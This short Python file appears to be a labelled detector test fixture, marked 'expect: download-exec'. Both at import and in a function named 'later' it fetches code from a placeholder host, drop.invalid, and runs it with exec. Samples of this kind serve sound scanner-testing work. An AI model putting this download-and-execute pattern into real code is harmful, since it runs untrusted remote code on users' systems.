# expect: download-exec
import urllib.request

import requests

exec(requests.get("https://drop.invalid/stage2.py").text)


def later():
    data = urllib.request.urlopen("https://drop.invalid/s3").read()
    exec(data)
